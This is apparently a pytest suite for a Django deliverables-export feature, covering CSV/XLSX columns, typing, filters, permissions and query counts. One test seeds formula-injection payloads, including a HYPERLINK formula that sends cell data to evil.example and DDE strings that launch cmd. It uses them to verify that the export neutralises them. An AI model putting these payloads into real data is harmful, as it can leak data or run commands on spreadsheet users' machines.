"""The deliverables export: the full record, typed; the page's filters, sort and permission
scoping; the formula guard on real data; a fixed number of queries."""

import csv
import datetime
import io
from decimal import Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from apps.plans.models import AuthorisationDomain, Deliverable, ODPlan, StatusUpdate
from tests.factories import UserFactory
from tests.plans.factories import DeliverableFactory, ThemeFactory

pytestmark = pytest.mark.django_db
LIST = reverse("plans:deliverable_list")
UTC = datetime.UTC

HEADERS = [
    "ID",
    "Organisation",
    "Plan",
    "Theme no.",
    "Theme / priority area",
    "Position in theme",
    "Subheading",
    "Deliverable / action",
    "Owner",
    "Deadline",
    "Deadline (as the source states it)",
    "Cost (£)",
    "Cost (as the source states it)",
    "Authorisation domains",
    "Status",
    "Overdue",
    "Status in the source",
    "Delivered",
    "In progress",
    "Methods",
    "Source / lead",
    "Comments",
    "Last update",
    "Last update by",
    "Latest progress note",
    "Latest progress note date",
    "Evidence",  # its evidence's titles and addresses (issue 22)
    "Version",  # the row's version: an import of a row changed since is a conflict (issue 25.5)
]


def _body(response):
    assert response.status_code == HTTPStatus.OK
    return b"".join(response.streaming_content)


def _csv(response):
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _xlsx(response):
    workbook = openpyxl.load_workbook(io.BytesIO(_body(response)))
    sheet = workbook["Deliverables"]
    header = [c.value for c in sheet[1]]
    records = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    about = {r[0]: r[1] for r in workbook["About this export"].iter_rows(values_only=True) if r[0]}
    return workbook, header, records, about


@pytest.fixture
def theme(dorset):
    plan = ODPlan.objects.get(organisation=dorset)
    return ThemeFactory(plan=plan, number=99, title="Generated theme")


@pytest.fixture
def full(theme):
    """A deliverable with every field of the record filled in and two updates."""
    owner = UserFactory(username="jsmith", first_name="Jane", last_name="Smith")
    deliverable = DeliverableFactory(
        theme=theme,
        position=7,
        subheading="Governance",
        title="Agree the constitution",
        methods="Workshops with members",
        source="Chief Officer",
        owner=owner,
        cost_text="£12,500.50 from the OD budget",
        cost_amount=Decimal("12500.50"),
        deadline=datetime.date(2012, 10, 31),
        deadline_text="End of October 2012",
        status=Deliverable.Status.IN_PROGRESS,
        source_status="Ongoing",
        delivered_narrative="Draft agreed.",
        in_progress_narrative="Consultation under way.",
        comments="On track — see the board paper.",
    )
    deliverable.domains.set(AuthorisationDomain.objects.filter(number__in=[6, 1, 3]))
    first = UserFactory(username="early.bird", first_name="Early", last_name="Bird")
    latest = UserFactory(username="lbird", first_name="", last_name="")  # no name: the username
    StatusUpdate.objects.create(
        deliverable=deliverable,
        created_by=first,
        created_at=datetime.datetime(2013, 1, 5, 9, 0, tzinfo=UTC),
        from_status="not_started",
        to_status="in_progress",
    )
    StatusUpdate.objects.create(
        deliverable=deliverable,
        created_by=latest,
        created_at=datetime.datetime(2013, 6, 20, 16, 45, tzinfo=UTC),  # 17:45 in London
        from_status="in_progress",
        to_status="in_progress",
        note="Still going.",
    )
    return deliverable


@pytest.fixture
def bare(theme):
    """A deliverable with nothing but a title: no owner, deadline, cost, domain or update."""
    return DeliverableFactory(theme=theme, position=8, title="Bare", in_progress_narrative="")


def test_csv_has_the_full_record_as_the_detail_page_shows_it(client, admin_user, full, bare):
    client.force_login(admin_user)
    header, records = _csv(client.get(LIST, {"theme": full.theme_id, "_export": "csv"}))
    assert header == HEADERS
    by_id = {r["ID"]: r for r in records}
    assert set(by_id) == {str(full.pk), str(bare.pk)}
    assert by_id[str(full.pk)] == {
        "ID": str(full.pk),
        "Organisation": "NHS Dorset CCG",
        "Plan": full.theme.plan.title,
        "Theme no.": "99",
        "Theme / priority area": "Generated theme",
        "Position in theme": "7",
        "Subheading": "Governance",
        "Deliverable / action": "Agree the constitution",
        "Owner": "Jane Smith",
        "Deadline": "2012-10-31",
        "Deadline (as the source states it)": "End of October 2012",
        "Cost (£)": "12500.50",
        "Cost (as the source states it)": "£12,500.50 from the OD budget",
        "Authorisation domains": "1; 3; 6",
        "Status": "In progress",
        "Overdue": "Yes",
        "Status in the source": "Ongoing",
        "Delivered": "Draft agreed.",
        "In progress": "Consultation under way.",
        "Methods": "Workshops with members",
        "Source / lead": "Chief Officer",
        "Comments": "On track — see the board paper.",
        "Last update": "2013-06-20 17:45",
        "Last update by": "lbird",
        "Latest progress note": "Still going.",
        "Latest progress note date": "2013-06-20",
        "Evidence": "",  # none linked (tests/evidence/test_cycle.py exports some)
        "Version": str(full.version),
    }
    assert by_id[str(bare.pk)] == {
        **dict.fromkeys(HEADERS, ""),
        "ID": str(bare.pk),
        "Organisation": "NHS Dorset CCG",
        "Plan": full.theme.plan.title,
        "Theme no.": "99",
        "Theme / priority area": "Generated theme",
        "Position in theme": "8",
        "Deliverable / action": "Bare",
        "Status": "In progress",
        "Overdue": "No",
        "Version": "1",
    }


def test_xlsx_has_the_same_record_typed(client, admin_user, full, bare):
    client.force_login(admin_user)
    workbook, header, records, _ = _xlsx(client.get(LIST, {"theme": full.theme_id, "_export": "xlsx"}))
    assert header == HEADERS
    record = next(r for r in records if r["ID"] == full.pk)
    assert record["Theme no."] == 99 and record["Position in theme"] == 7
    assert record["Deadline"] == datetime.datetime(2012, 10, 31)
    assert record["Cost (£)"] == 12500.5
    assert record["Authorisation domains"] == "1; 3; 6"
    assert record["Overdue"] == "Yes" and record["Status"] == "In progress"
    assert record["Last update"] == datetime.datetime(2013, 6, 20, 17, 45)
    assert record["Last update by"] == "lbird"
    assert record["Latest progress note"] == "Still going."
    assert record["Latest progress note date"] == datetime.datetime(2013, 6, 20)
    assert record["Owner"] == "Jane Smith"
    empty = next(r for r in records if r["ID"] == bare.pk)
    assert (empty["Owner"], empty["Deadline"], empty["Cost (£)"], empty["Last update"]) == (None,) * 4
    assert empty["Overdue"] == "No"
    sheet = workbook["Deliverables"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == full.pk)
    cells = dict(zip(HEADERS, row, strict=True))
    assert cells["Deadline"].is_date and cells["Deadline"].number_format == "dd/mm/yyyy"
    assert cells["Cost (£)"].data_type == "n" and cells["Cost (£)"].number_format == "#,##0.00"
    assert cells["Last update"].is_date and cells["Last update"].number_format == "dd/mm/yyyy hh:mm"
    note_date = cells["Latest progress note date"]
    assert note_date.is_date and note_date.number_format == "dd/mm/yyyy"
    assert {cells[h].data_type for h in ("ID", "Theme no.", "Position in theme")} == {"n"}


def test_formulas_in_the_data_are_written_as_text(client, admin_user, theme):
    owner = UserFactory(username="mallory", first_name="@SUM(1+9)", last_name="")
    attack = DeliverableFactory(
        theme=theme,
        title='=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
        comments="=cmd|' /C calc'!A0",
        methods="+1+cmd|' /C calc'!A0",
        deadline_text="-2+3",
        owner=owner,
    )
    client.force_login(admin_user)
    _, records = _csv(client.get(LIST, {"theme": theme.pk, "_export": "csv"}))
    (record,) = [r for r in records if r["ID"] == str(attack.pk)]
    assert record["Deliverable / action"] == "'" + attack.title
    assert record["Comments"] == "'=cmd|' /C calc'!A0"
    assert record["Methods"] == "'+1+cmd|' /C calc'!A0"
    assert record["Deadline (as the source states it)"] == "'-2+3"
    assert record["Owner"] == "'@SUM(1+9)"
    workbook, _, records, _ = _xlsx(
        client.get(LIST, {"theme": theme.pk, "q": "=HYPERLINK", "_export": "xlsx"})
    )
    (record,) = records
    assert record["Deliverable / action"] == "'" + attack.title
    formulas = [
        c.coordinate for s in workbook.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    search = next(
        row
        for row in workbook["About this export"].iter_rows(values_only=True)
        if row[0] == "Search title and narratives"
    )
    assert search[1] == "'=HYPERLINK"


def test_exports_follow_the_pages_filters_and_sort(client, admin_user):
    client.force_login(admin_user)
    # A sort on unique keys (plan, theme, position), so the page's order is the only order.
    params = {"status": ["in_progress", "not_started", "delivered"], "sort": "-theme"}
    page = client.get(LIST, params).context["table"]
    shown = [row.record.pk for row in page.page.object_list]
    _, records = _csv(client.get(LIST, {**params, "_export": "csv"}))
    assert len(records) == page.paginator.count > len(shown)
    assert [int(r["ID"]) for r in records[: len(shown)]] == shown
    _, _, records, about = _xlsx(client.get(LIST, {**params, "_export": "xlsx"}))
    assert [r["ID"] for r in records[: len(shown)]] == shown
    assert about["Rows"] == page.paginator.count
    assert about["Sorted by"] == "Theme / priority area (descending)"


def test_exports_contain_only_what_the_user_may_see(client, staff_dorset, dorset, darlington):
    client.force_login(staff_dorset)
    visible = set(Deliverable.objects.filter(theme__plan__organisation=dorset).values_list("pk", flat=True))
    _, records = _csv(client.get(LIST, {"_export": "csv"}))
    assert {int(r["ID"]) for r in records} == visible and len(visible) == 54
    assert {r["Organisation"] for r in records} == {"NHS Dorset CCG"}
    _, _, records, about = _xlsx(client.get(LIST, {"_export": "xlsx"}))
    assert {r["ID"] for r in records} == visible
    # Asking for another organisation's rows is a filter the form refuses: nothing is exported.
    _, records = _csv(client.get(LIST, {"organisation": darlington.pk, "_export": "csv"}))
    assert records == []
    _, _, records, about = _xlsx(client.get(LIST, {"organisation": darlington.pk, "_export": "xlsx"}))
    assert records == [] and about["Rows"] == 0
    assert about["Organisation"].startswith(f"Not understood: {darlington.pk}.")


def test_about_sheet_names_each_filter_as_the_form_shows_it(client, admin_user, dorset):
    admin_user.first_name, admin_user.last_name = "Ada", "Admin"
    admin_user.save()
    client.force_login(admin_user)
    domain = AuthorisationDomain.objects.get(number=1)
    params = {
        "organisation": dorset.pk,
        "status": ["in_progress", "delivered"],
        "overdue": "true",
        "domain": domain.pk,
        "deadline_after": "2012-10-01",
        "deadline_before": "2013-03-31",
        "q": "board",
    }
    before = timezone.localtime().replace(tzinfo=None, microsecond=0)
    _, _, records, about = _xlsx(client.get(LIST, {**params, "_export": "xlsx"}))
    after = timezone.localtime().replace(tzinfo=None)
    assert about["Export of"] == "Deliverables"
    assert about["Organisation"] == "NHS Dorset CCG"
    assert about["Status"] == "In progress; Delivered"
    assert about["Overdue"] == "Yes"
    assert about["Authorisation domain"] == str(domain)
    assert about["Deadline between"] == "from 01/10/2012 to 31/03/2013"
    assert about["Search title and narratives"] == "board"
    assert "Plan" not in about and "Owner" not in about  # filters left empty are not listed
    assert about["Exported by"] == "Ada Admin (t.admin)"
    assert before <= about["Exported at (Europe/London time)"] <= after
    assert about["Rows"] == len(records) == client.get(LIST, params).context["table"].paginator.count
    assert (
        about["Address of the list"].startswith("/deliverables/?")
        and "_export" not in about["Address of the list"]
    )


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_file_names_are_kept(client, admin_user, export_format):
    client.force_login(admin_user)
    response = client.get(LIST, {"_export": export_format})
    assert (
        f'filename="deliverables-{timezone.localdate():%Y-%m-%d}.{export_format}"'
        in response["Content-Disposition"]
    )
    assert response.streaming


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_query_count_is_fixed_from_20_to_500_rows(
    client, staff_dorset, theme, export_format, django_assert_max_num_queries
):
    client.force_login(staff_dorset)
    domains = list(AuthorisationDomain.objects.all())
    users = [UserFactory() for _ in range(3)]

    def add(count, start):
        made = DeliverableFactory.create_batch(
            count, theme=theme, owner=users[start % 3], deadline=datetime.date(2013, 1, 1)
        )
        for i, deliverable in enumerate(made):
            deliverable.domains.set(domains[: i % 4])
            StatusUpdate.objects.create(
                deliverable=deliverable, created_by=users[i % 3], to_status="in_progress"
            )

    params = {"theme": theme.pk, "_export": export_format}
    add(20, 0)
    _body(client.get(LIST, params))  # the first request of a session also writes the session row
    with django_assert_max_num_queries(12) as baseline:
        assert _body(client.get(LIST, params))
    add(480, 1)
    with django_assert_max_num_queries(len(baseline.captured_queries)):
        body = _body(client.get(LIST, params))
    if export_format == "csv":
        assert body.count(b"\r\n") == 501


def test_the_latest_progress_note_is_the_newest_update_with_a_note_dated_in_uk_time(
    client, admin_user, theme
):
    """A status change without a note does not hide the note before it; the date is the note's
    day in the UK (23:30 UTC on a summer day is the next day in London)."""
    deliverable = DeliverableFactory(theme=theme, position=9, title="Noted")
    author = UserFactory(username="note.taker")
    StatusUpdate.objects.create(
        deliverable=deliverable,
        created_by=author,
        created_at=datetime.datetime(2013, 7, 1, 23, 30, tzinfo=UTC),
        from_status="not_started",
        to_status="in_progress",
        note="Kick-off held with the localities.",
    )
    StatusUpdate.objects.create(
        deliverable=deliverable,
        created_by=author,
        created_at=datetime.datetime(2013, 8, 1, 9, 0, tzinfo=UTC),
        from_status="in_progress",
        to_status="under_development",
    )
    client.force_login(admin_user)
    _, records = _csv(client.get(LIST, {"theme": theme.pk, "_export": "csv"}))
    (record,) = [r for r in records if r["ID"] == str(deliverable.pk)]
    assert record["Latest progress note"] == "Kick-off held with the localities."
    assert record["Latest progress note date"] == "2013-07-02"
    assert record["Last update"] == "2013-08-01 10:00"
    _, _, records, _ = _xlsx(client.get(LIST, {"theme": theme.pk, "_export": "xlsx"}))
    (record,) = [r for r in records if r["ID"] == deliverable.pk]
    assert record["Latest progress note date"] == datetime.datetime(2013, 7, 2)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_what_a_reader_may_not_see_is_not_in_their_export(
    client, board_dorset, staff_dorset, full, export_format
):
    """ "Status in the source" is for administrators on the deliverable's page; a board member's
    and staff's exports leave the column out, as the page does (apps/core/audience.py)."""
    for reader in (board_dorset, staff_dorset):
        client.force_login(reader)
        response = client.get(LIST, {"theme": full.theme_id, "_export": export_format})
        if export_format == "csv":
            header, records = _csv(response)
        else:
            _, header, records, _ = _xlsx(response)
        assert header == [h for h in HEADERS if h != "Status in the source"]
        assert len(records) == 1
        assert 'id="about-source"' not in client.get(full.get_absolute_url()).content.decode()
